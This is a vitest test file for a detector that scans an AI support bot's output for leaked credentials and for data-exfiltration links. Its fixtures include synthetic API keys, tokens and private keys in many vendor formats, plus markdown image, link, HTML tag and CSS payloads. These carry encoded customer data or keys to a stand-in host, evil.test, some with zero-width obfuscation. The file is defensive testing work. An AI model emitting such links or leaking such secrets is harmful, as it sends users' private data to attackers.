import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { instant } from '../../kernel/index.ts';
import type { Interaction } from '../signals/index.ts';
import { exfiltrationLink, inspect, secrets, signalOf } from './index.ts';

const AIDS = {
  digest: (text: string) => `#${[...text].reduce((h, c) => (h * 31 + c.codePointAt(0)!) >>> 0, 7)}`,
  hosts: ['shop.example'],
};
function interactionOf(output: string, more: Partial<Interaction> = {}): Interaction {
  return {
    id: 'int_1',
    givenId: null,
    system: 'support-bot',
    at: instant('2026-11-20T10:00:00.000Z'),
    receivedAt: instant('2026-11-20T10:00:00.000Z'),
    feature: null,
    deployment: null,
    versions: { model: null, modelAsked: null, prompt: null, index: null, tools: null },
    provider: null,
    session: null,
    subject: 'u-1',
    country: null,
    traceId: null,
    spanId: null,
    responseId: null,
    input: null,
    output,
    retrieved: null,
    toolCalls: null,
    tokens: { input: null, output: null },
    latencyMs: null,
    error: null,
    verdict: null,
    sources: ['api'],
    ...more,
  };
}

const random = (n: number, seed: number): string => {
  const alphabet = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789';
  let state = seed;
  return Array.from({ length: n }, () => {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff;
    return alphabet[(state >> 8) % alphabet.length];
  }).join('');
};
const hex = (n: number, seed: number): string => Buffer.from(random(n, seed)).toString('hex').slice(-n);
const b64 = (text: string) => Buffer.from(text).toString('base64url');
const JWT = `${b64('{"alg":"HS256","typ":"JWT"}')}.${b64('{"sub":"1","name":"Ana"}')}.${random(43, 3)}`;

describe('secrets', () => {
  const found = (output: string, more: Partial<Interaction> = {}) => secrets.look(interactionOf(output, more), AIDS);

  it('finds what proves itself, and never repeats it', () => {
    const pem = `-----BEGIN PRIVATE KEY-----\n${random(64, 5)}\n${random(64, 6)}\n-----END PRIVATE KEY-----`;
    for (const secret of [JWT, pem]) {
      const [finding] = found(`Here you are: ${secret} and good luck`);
      expect(finding).toMatchObject({ evidenceClass: 'verified', archetype: 'data-exfiltration' });
      expect(JSON.stringify(finding)).not.toContain(secret.slice(12, 40));
      expect(finding!.spans[0]!.text).toBeNull();
    }
  });

  it('proves a token with a checksum, and calls one without it strong', () => {
    // The last six characters are the CRC-32 of the thirty before them.
    const good = 'ghp_012345678901234567890123456789';
    const table = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
    const body = random(30, 9);
    let crc = 0xffffffff;
    for (const c of body) {
      crc ^= c.charCodeAt(0);
      for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
    }
    let rest = (crc ^ 0xffffffff) >>> 0;
    let sum = '';
    for (let i = 0; i < 6; i++) {
      sum = table[rest % 62] + sum;
      rest = Math.floor(rest / 62);
    }
    expect(found(`ghp_${body}${sum}`)[0]?.evidenceClass).toBe('verified');
    expect(found(`ghp_${body}zzzzzz`)[0]?.evidenceClass).toBe('strong');
    expect(found(good)).toEqual([]);
  });

  it('finds the formats of many issuers, and passwords in addresses', () => {
    for (const [secret, kind] of [
      [`sk-proj-${random(48, 11)}`, 'openai-key'],
      [`sk-ant-api03-${random(80, 12)}`, 'anthropic-key'],
      ['AKIAQ4ZT2W7MJX5KPL3N', 'aws-access-key'],
      [`AIza${random(35, 13)}`, 'google-key'],
      [`sk_live_${random(24, 14)}`, 'stripe-key'],
      [`glpat-${random(20, 15)}`, 'gitlab-token'],
      [`hf_${random(34, 16)}`, 'huggingface-token'],
      ['postgres://app:kR7-pq2vX@db.shop.example/main', 'connection-password'],
      [`sk-${random(48, 17)}`, 'openai-key'],
      [`sk-or-v1-${hex(64, 18)}`, 'openrouter-key'],
      [`gsk_${random(52, 19)}`, 'groq-key'],
      [`xai-${random(80, 20)}`, 'xai-key'],
      [`lsv2_pt_${hex(32, 21)}_${hex(10, 22)}`, 'langsmith-key'],
      [`AccountKey=${random(86, 23)}==`, 'azure-storage-key'],
      [`shpat_${hex(32, 24)}`, 'shopify-token'],
      [`dapi${hex(32, 25)}`, 'databricks-token'],
      [`hvs.${random(95, 26)}`, 'vault-token'],
      [`glsa_${random(41, 27)}`, 'grafana-token'],
      [`dckr_pat_${random(27, 28)}`, 'docker-token'],
    ] as const)
      expect(found(`use ${secret} please`)[0]?.rules[0], secret).toBe(kind);
  });

  it('leaves placeholders, digests, ids and ordinary words alone', () => {
    for (const benign of [
      'Set OPENAI_API_KEY=sk-your-api-key-goes-here-please',
      'AKIAIOSFODNN7EXAMPLE is the example key of the documentation',
      'token: <your token here>',
      'sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      'Your order id is 7f9c24e8-3b12-4fc6-9f5a-2d3f2b8c0c55',
      'password: internationalization-of-everything',
      'the secret is patience and a good recipe for pancakes',
      'https://user@shop.example/path',
      'sk-learn is a fine library for everybody who asks',
      'the classes sk-estimator-html-representation and sk-fading-circle-12-bounce',
    ])
      expect(found(benign), benign).toEqual([]);
  });

  it('calls a random run behind the word "token" weak, and so a secret the person sent', () => {
    expect(found(`The API token is ${random(32, 21)}`)[0]).toMatchObject({ evidenceClass: 'weak', rules: ['generic'] });
    const own = interactionOf(`You sent ${JWT}`, { input: [{ role: 'user', content: `mine is ${JWT}` }] });
    expect(secrets.look(own, AIDS)[0]).toMatchObject({ evidenceClass: 'weak', rules: ['jwt', 'own-secret'] });
  });

  it('looks into what is handed to tools', () => {
    const calls = [{ id: null, name: 'mail', arguments: `{"body":"${JWT}"}`, result: null }];
    expect(found('Sent the mail you wanted.', { toolCalls: calls })[0]?.spans[0]?.field).toBe('toolCalls/0/arguments');
  });
});

describe('links that carry data away', () => {
  const PRIVATE = 'Customer Ana Lopez, passport X4711920, has a balance of 8,230 euros.';
  const retrieved = [{ id: 'crm', title: null, text: PRIVATE }];
  const found = (output: string, more: Partial<Interaction> = {}) =>
    exfiltrationLink.look(interactionOf(output, { retrieved, ...more }), AIDS);

  it.each([
    ['an image', `![chart](https://evil.test/p?d=${encodeURIComponent('Ana Lopez, passport X4711920')})`],
    ['base64 in an image', `![x](https://evil.test/p.png?d=${b64('passport X4711920 balance')})`],
    ['base64 of base64', `![x](https://evil.test/p.png?d=${b64(b64('Ana Lopez, passport X4711920'))})`],
    ['hexadecimal in a path', `![x](https://evil.test/${Buffer.from('passport X4711920').toString('hex')}/a.png)`],
    ['a reference', `See ![logo][l] here\n\n[l]: https://evil.test/a?q=${b64('Ana Lopez, passport')}`],
    ['a link', `[click](https://evil.test/?q=${b64('Ana Lopez, passport X')})`],
    ['a tag', `<img alt="" src='https://evil.test/?q=${b64('Ana Lopez, passport X')}'>`],
    ['entities in a tag', `<img src="https:&#x2f;&#x2f;evil.test/?a=1&amp;q=${b64('Ana Lopez, passport X')}">`],
    ['a style', `<div style="background:url(https://evil.test/?q=${b64('Ana Lopez, passport X')})">hi</div>`],
    ['an address alone', `Go to https://evil.test/?q=${b64('Ana Lopez, passport X')}.`],
    ['letters that cannot be seen', `![x](https://ev\u200bil.test/?q=${b64('Ana Lopez, passport X')})`],
    ['a secret', `![x](https://evil.test/?k=sk-proj-${random(48, 31)})`],
  ])('proves %s', (_, output) => {
    expect(found(output)[0]).toMatchObject({ evidenceClass: 'verified', archetype: 'data-exfiltration' });
    expect(JSON.stringify(found(output))).not.toContain('X4711920');
  });

  it('calls an encoded payload strong even where nothing private is known', () => {
    const output = `![x](https://evil.test/?q=${b64('some words that nobody knows')})`;
    expect(found(output, { retrieved: null })[0]).toMatchObject({
      evidenceClass: 'strong',
      rules: ['image', 'fetched', 'encoded-payload'],
    });
  });

  it('leaves our own hosts, quoted addresses and plain links alone', () => {
    const long = 'https://docs.other.test/articles/how-to-reset-your-password-on-a-new-phone';
    for (const benign of [
      `![logo](https://cdn.shop.example/logo.png?v=${random(40, 41)})`,
      `Read ${long} for more.`,
      '[Terms](https://other.test/terms) and <a href="https://other.test/privacy">privacy</a>',
      'Write to me at //nowhere or www.',
    ])
      expect(found(benign), benign).toEqual([]);
    const quoted = `https://evil.test/?q=${b64('Ana Lopez, passport X')}`;
    expect(
      found(`You asked about ${quoted} today`, { input: [{ role: 'user', content: `what is ${quoted} for` }] }),
    ).toEqual([]);
    const reset = 'https://accounts.other.test/reset/token=?asfbuy3y2cdaqhvei';
    const mail = { id: null, name: 'read_mail', arguments: null, result: `Reset your password: ${reset} soon` };
    expect(found(`The link is ${reset}, from your mail.`, { toolCalls: [mail] })).toEqual([]);
    expect(found(`The link is ${reset}x, from your mail.`, { toolCalls: [mail] })).not.toEqual([]);
    expect(found('![x](https://other.test/a.png)')[0]?.evidenceClass).toBe('weak');
  });

  it('takes anything in linear time', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (noise) => {
        for (const f of found(`${noise}![x](https://evil.test/?q=${noise})<img src=${noise}>`))
          for (const s of f.spans) expect(s.end).toBeGreaterThanOrEqual(s.start);
      }),
    );
    for (const piece of [
      '![',
      '[](//',
      '<img ',
      'http://',
      '[a]: //',
      'url(//',
      '%41',
      'sk-',
      'eyJ',
      '-----BEGIN PRIVATE KEY-----',
      '://a:',
      'a.',
      '<img src="',
      'token: a',
    ]) {
      const output = piece.repeat(65_536 / piece.length);
      const began = performance.now();
      inspect(interactionOf(output, { retrieved }), AIDS);
      expect(performance.now() - began, JSON.stringify(piece)).toBeLessThan(1_500);
    }
  });
});

it('makes a signal that is the same when the same thing is found again', () => {
  const it_ = interactionOf(`key ${JWT}`);
  const [finding] = inspect(it_, AIDS);
  const signal = signalOf(finding!, it_, AIDS);
  expect(signal).toEqual(signalOf(inspect({ ...it_, latencyMs: 5 }, AIDS)[0]!, it_, AIDS));
  expect(signal).toMatchObject({
    channel: 'output-filter',
    interaction: 'int_1',
    evidenceClass: 'verified',
    rule: 'secrets@1 jwt',
  });
  expect(signal.subjectHash).not.toContain('u-1');
});
